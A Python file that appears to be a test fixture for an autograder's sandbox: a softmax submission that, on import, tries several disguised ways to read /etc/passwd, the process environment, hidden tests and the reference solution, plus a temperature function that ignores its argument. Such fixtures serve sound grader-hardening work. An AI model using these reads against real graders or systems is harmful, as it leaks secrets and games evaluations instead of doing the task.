# attack: reads files in the ways that do not look like it: tokens, encodings, imports, warnings, NumPy's loaders
# exercise: softmax
# answer: half
# verdicts: failed
import contextlib
import importlib.util
import linecache
import runpy
import tokenize
import warnings

import numpy as np

PATHS = ("/etc/passwd", "/proc/self/environ", "../solutions/softmax/test_hidden.py", "/course/solutions/softmax/reference.py")
for path in PATHS:
    for line in linecache.getlines(path):
        print("GRADEKIT-" + "BREACHED", line)
    warnings.showwarning("seen", UserWarning, path, 1)
    for read in (
        lambda place: tokenize.open(place).read(),
        lambda place: np.fromfile(place, dtype=np.uint8),
        lambda place: np.memmap(place, dtype=np.uint8, mode="r"),
        lambda place: np.genfromtxt(place, dtype=str),
        lambda place: runpy.run_path(place),
        lambda place: importlib.util.spec_from_file_location("x", place).loader.get_data(place),
    ):
        with contextlib.suppress(OSError, ValueError, SyntaxError, AttributeError):
            print("GRADEKIT-" + "BREACHED", path, read(path))


def softmax(x):
    x = np.asarray(x, dtype=np.float64)
    powers = np.exp(x - x.max(axis=-1, keepdims=True))
    return powers / powers.sum(axis=-1, keepdims=True)


def temperature_softmax(x, t):
    return softmax(x)
